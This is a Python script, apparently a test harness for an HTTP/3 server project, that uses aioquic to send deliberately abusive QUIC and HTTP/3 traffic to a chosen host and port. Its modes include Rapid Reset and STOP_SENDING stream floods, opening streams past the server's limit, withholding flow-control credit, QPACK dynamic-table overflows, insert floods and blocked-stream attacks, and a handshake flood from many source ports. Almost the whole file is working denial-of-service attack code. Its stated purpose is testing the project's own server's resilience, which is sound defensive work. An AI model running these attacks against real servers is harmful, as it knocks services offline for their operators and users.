"""Attacking HTTP/3 clients on aioquic's lower-level QuicConnection (no asyncio), for
berth-cli's tests/h3_attacks.rs: each sends what an honest client would not, over a real UDP
socket, and prints one JSON line saying what it did and how the server answered.

    python attack.py HOST PORT MODE [ARGS...]

Modes:
    streams N            open request streams within the server's MAX_STREAMS, kept open, and
                         wait up to a second for it to allow more ("widened"); then open the
                         rest of N at once, past the limit (the client's own check turned
                         off); reports the limit the server advertised at the handshake, the
                         one it widened to, and how the connection ended
    rapid-reset SECS PATH   open a request stream, send its HEADERS, reset it at once, and
                         again, as fast as QUIC's stream credit allows, for SECS seconds
    stop-sending SECS PATH  the same, but the request is whole and the client stops the answer
                         (STOP_SENDING) at once
    no-credit SECS PATH  GET PATH with small windows and never a MAX_DATA or MAX_STREAM_DATA,
                         pinging to stay alive; reports bytes received and when and how the
                         connection ended
    qpack-capacity       a QPACK encoder stream setting a dynamic table past the server's limit
    qpack-inserts N      N inserts of 1 KiB entries into the (allowed) dynamic table
    qpack-blocked N      N request streams whose field sections wait for inserts never sent
    flood N              N new connections, each from a port of its own, that send their
                         first flight and nothing more
    get PATH             an honest GET PATH, for what the handshake showed: the streams the
                         server advertised, its answer's status and body

Every report of one connection says how many Retry packets it followed ("retries").
"""

import json
import os
import select
import socket
import ssl
import sys
import time

from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import DataReceived, HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, StreamDataReceived


def config(**kw):
    c = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, verify_mode=ssl.CERT_NONE, **kw)
    return c


class Raw:
    """One QUIC connection over its own UDP socket, pumped by hand."""

    def __init__(self, host, port, **kw):
        self.addr = (host, port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.quic = QuicConnection(configuration=config(**kw))
        self.quic.connect(self.addr, now=time.monotonic())
        self.terminated = None
        self.connected = False
        self.received = 0
        self.events = []

    def flush(self):
        for data, addr in self.quic.datagrams_to_send(now=time.monotonic()):
            try:
                self.sock.sendto(data, addr)
            except BlockingIOError:
                pass

    def pump(self, timeout=0.0):
        """Sends what waits, reads what came within `timeout`, runs timers; returns events."""
        self.flush()
        end = time.monotonic() + timeout
        while True:
            t = self.quic.get_timer()
            wait = max(0.0, end - time.monotonic())
            if t is not None:
                wait = max(0.0, min(wait, t - time.monotonic()))
            r, _, _ = select.select([self.sock], [], [], wait)
            if r:
                while True:
                    try:
                        data, addr = self.sock.recvfrom(65536)
                    except BlockingIOError:
                        break
                    self.quic.receive_datagram(data, addr, now=time.monotonic())
            t = self.quic.get_timer()
            if t is not None and t <= time.monotonic():
                self.quic.handle_timer(now=time.monotonic())
            self.take_events()
            self.flush()
            if time.monotonic() >= end or self.terminated:
                return

    def take_events(self):
        while True:
            e = self.quic.next_event()
            if e is None:
                return
            if isinstance(e, HandshakeCompleted):
                self.connected = True
            elif isinstance(e, ConnectionTerminated):
                self.terminated = {"code": e.error_code, "frame": e.frame_type, "reason": e.reason_phrase}
            elif isinstance(e, StreamDataReceived):
                self.received += len(e.data)
            self.events.append(e)

    def handshake(self):
        end = time.monotonic() + 10
        while not self.connected and not self.terminated and time.monotonic() < end:
            self.pump(0.05)
        if not self.connected:
            raise SystemExit(json.dumps({"error": "no handshake", "terminated": self.terminated}))


def headers(host, port, method, path):
    return [
        (b":method", method.encode()),
        (b":scheme", b"https"),
        (b":authority", f"{host}:{port}".encode()),
        (b":path", path.encode()),
    ]


def varint(n):
    if n < 0x40:
        return bytes([n])
    if n < 0x4000:
        return (n | 0x4000).to_bytes(2, "big")
    if n < 0x40000000:
        return (n | 0x80000000).to_bytes(4, "big")
    return (n | 0xC000000000000000).to_bytes(8, "big")


def prefixed(n, bits, flags):
    """A QPACK/HPACK prefixed integer of `bits` bits, `flags` in the byte's high bits."""
    top = (1 << bits) - 1
    if n < top:
        return bytes([flags | n])
    out = [flags | top]
    n -= top
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def open_control(c):
    """Our control stream with an empty SETTINGS, and QPACK's encoder stream: their ids."""
    control = c.quic.get_next_available_stream_id(is_unidirectional=True)
    c.quic.send_stream_data(control, varint(0x00) + varint(0x04) + varint(0))
    encoder = c.quic.get_next_available_stream_id(is_unidirectional=True)
    c.quic.send_stream_data(encoder, varint(0x02))
    return control, encoder


def result(c, **kw):
    kw.update({"terminated": c.terminated, "received": c.received, "retries": c.quic._retry_count})
    print(json.dumps(kw), flush=True)


def streams(host, port, n):
    c = Raw(host, port)
    c.handshake()
    advertised = c.quic._remote_max_streams_bidi
    h3 = H3Connection(c.quic)
    opened = 0

    def open_one():
        nonlocal opened
        s = c.quic.get_next_available_stream_id()
        h3.send_headers(s, headers(host, port, "GET", "/test/slow"), end_stream=False)
        opened += 1
        if opened % 20 == 0:
            c.pump(0.0)

    # Honest first: every stream allowed, held open (no FIN), and a moment for the server to
    # allow more now that they are in use.
    while opened < n and c.quic._local_next_stream_id_bidi // 4 < c.quic._remote_max_streams_bidi:
        open_one()
    end = time.monotonic() + 1.0
    while c.quic._remote_max_streams_bidi == advertised and time.monotonic() < end \
            and not c.terminated:
        c.pump(0.05)
    widened = c.quic._remote_max_streams_bidi
    # The client's own check off: it would queue streams past the limit, as it should.
    c.quic._remote_max_streams_bidi = 1 << 40
    while opened < n:
        open_one()
    end = time.monotonic() + 5
    while not c.terminated and time.monotonic() < end:
        c.pump(0.1)
    result(c, advertised=advertised, widened=widened, opened=opened)


def flood_streams(host, port, secs, path, stop):
    c = Raw(host, port)
    c.handshake()
    h3 = H3Connection(c.quic)
    opened = 0
    end = time.monotonic() + secs
    while time.monotonic() < end and not c.terminated:
        # Within the credit the server grants (the limit is tested by `streams`).
        while c.quic._local_next_stream_id_bidi // 4 < c.quic._remote_max_streams_bidi:
            s = c.quic.get_next_available_stream_id()
            if stop:
                h3.send_headers(s, headers(host, port, "GET", path), end_stream=True)
                c.quic.stop_stream(s, 0x10C)
            else:
                # The HEADERS leave before the reset, so that the server reads the request
                # (and dispatches it) before it learns it is cancelled, as in HTTP/2's Rapid
                # Reset.
                h3.send_headers(s, headers(host, port, "GET", path), end_stream=False)
                c.flush()
                c.quic.reset_stream(s, 0x10C)
            opened += 1
            if opened % 16 == 0:
                c.flush()
        c.pump(0.002)
        # Forget the streams done with, as a client would (aioquic keeps them otherwise).
        for sid in [sid for sid, st in c.quic._streams.items() if sid % 4 == 0 and st.is_finished]:
            c.quic._streams.pop(sid, None)
    c.pump(0.2)
    result(c, opened=opened)


def no_credit(host, port, secs, path):
    c = Raw(host, port, max_data=65536, max_stream_data=65536)
    c.quic._write_connection_limits = lambda builder, space: None
    c.quic._write_stream_limits = lambda builder, space, stream: None
    c.handshake()
    h3 = H3Connection(c.quic)
    s = c.quic.get_next_available_stream_id()
    h3.send_headers(s, headers(host, port, "GET", path), end_stream=True)
    start = time.monotonic()
    end = start + secs
    ended = None
    while time.monotonic() < end:
        c.quic.send_ping(int(time.monotonic() * 1000))
        c.pump(0.5)
        if c.terminated:
            ended = time.monotonic() - start
            break
    result(c, ended_after=ended)


def qpack_capacity(host, port):
    c = Raw(host, port)
    c.handshake()
    _, encoder = open_control(c)
    # Set Dynamic Table Capacity (001xxxxx): 1 MB, past SETTINGS_QPACK_MAX_TABLE_CAPACITY.
    c.quic.send_stream_data(encoder, prefixed(1 << 20, 5, 0x20))
    end = time.monotonic() + 5
    while not c.terminated and time.monotonic() < end:
        c.pump(0.1)
    result(c)


def qpack_inserts(host, port, n):
    c = Raw(host, port)
    c.handshake()
    _, encoder = open_control(c)
    c.quic.send_stream_data(encoder, prefixed(4096, 5, 0x20))
    value = b"v" * 1024
    sent = 0
    end = time.monotonic() + 10
    while sent < n and not c.terminated and time.monotonic() < end:
        # Insert with literal name (01NHxxxx): name "x-bomb", a 1 KiB value; each evicts the
        # oldest of a 4 KiB table.
        chunk = b""
        for _ in range(min(64, n - sent)):
            chunk += prefixed(6, 5, 0x40) + b"x-bomb" + prefixed(len(value), 7, 0x00) + value
            sent += 1
        c.quic.send_stream_data(encoder, chunk)
        c.pump(0.0)
    # Then an honest request on the same connection: still served? (Its field section by
    # hand, static table only: aioquic's H3Connection would open a second control stream.)
    s = c.quic.get_next_available_stream_id()
    authority = f"{host}:{port}".encode()
    block = (
        bytes([0x00, 0x00])  # Required Insert Count 0, Delta Base 0
        + bytes([0xC0 | 17])  # :method GET
        + bytes([0xC0 | 23])  # :scheme https
        + bytes([0x50 | 0]) + prefixed(len(authority), 7, 0) + authority  # :authority
        + bytes([0x50 | 1]) + prefixed(12, 7, 0) + b"/hello/world"  # :path
    )
    c.quic.send_stream_data(s, varint(0x01) + varint(len(block)) + block, end_stream=True)
    end = time.monotonic() + 5
    answered = False
    while not c.terminated and time.monotonic() < end and not answered:
        c.pump(0.1)
        answered = any(
            isinstance(e, StreamDataReceived) and e.stream_id == s and b"Hello, World!" in e.data
            for e in c.events
        )
    result(c, inserts=sent, answered=answered)


def qpack_blocked(host, port, n):
    c = Raw(host, port)
    c.handshake()
    open_control(c)
    opened = 0
    for _ in range(n):
        s = c.quic.get_next_available_stream_id()
        # HEADERS: Required Insert Count 1 (encoded 2 for a 4096-byte table), Delta Base 0,
        # then the dynamic entry 0: never inserted, so the stream waits (blocked).
        block = bytes([0x02, 0x00, 0x80])
        c.quic.send_stream_data(s, varint(0x01) + varint(len(block)) + block, end_stream=True)
        opened += 1
    end = time.monotonic() + 3
    while not c.terminated and time.monotonic() < end:
        c.pump(0.1)
    result(c, opened=opened)


def flood(host, port, n):
    sent = 0
    socks = []
    start = time.monotonic()
    for i in range(n):
        q = QuicConnection(configuration=config())
        q.connect((host, port), now=time.monotonic())
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        for data, addr in q.datagrams_to_send(now=time.monotonic()):
            try:
                s.sendto(data, addr)
                sent += 1
            except BlockingIOError:
                pass
        socks.append(s)
        if len(socks) >= 256:
            # Each port is used once; closing it makes the server's answers ICMP errors.
            for s in socks:
                s.close()
            socks = []
    for s in socks:
        s.close()
    print(json.dumps({"connections": n, "datagrams": sent, "secs": time.monotonic() - start}), flush=True)


def get(host, port, path):
    c = Raw(host, port)
    c.handshake()
    advertised = c.quic._remote_max_streams_bidi
    h3 = H3Connection(c.quic)
    s = c.quic.get_next_available_stream_id()
    h3.send_headers(s, headers(host, port, "GET", path), end_stream=True)
    status, body, ended, seen = None, b"", False, 0
    end = time.monotonic() + 10
    while not ended and not c.terminated and time.monotonic() < end:
        c.pump(0.05)
        # Every QUIC event through HTTP/3 (the server's control stream's too), in order.
        for e in c.events[seen:]:
            for h in h3.handle_event(e):
                if isinstance(h, HeadersReceived) and h.stream_id == s:
                    status = int(dict(h.headers)[b":status"])
                    ended = ended or h.stream_ended
                elif isinstance(h, DataReceived) and h.stream_id == s:
                    body += h.data
                    ended = ended or h.stream_ended
        seen = len(c.events)
    result(c, advertised=advertised, status=status, body=body.decode(errors="replace"), ended=ended)


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    args = sys.argv[4:]
    if mode == "streams":
        streams(host, port, int(args[0]))
    elif mode == "rapid-reset":
        flood_streams(host, port, float(args[0]), args[1], stop=False)
    elif mode == "stop-sending":
        flood_streams(host, port, float(args[0]), args[1], stop=True)
    elif mode == "no-credit":
        no_credit(host, port, float(args[0]), args[1])
    elif mode == "qpack-capacity":
        qpack_capacity(host, port)
    elif mode == "qpack-inserts":
        qpack_inserts(host, port, int(args[0]))
    elif mode == "qpack-blocked":
        qpack_blocked(host, port, int(args[0]))
    elif mode == "flood":
        flood(host, port, int(args[0]))
    elif mode == "get":
        get(host, port, args[0])
    else:
        raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
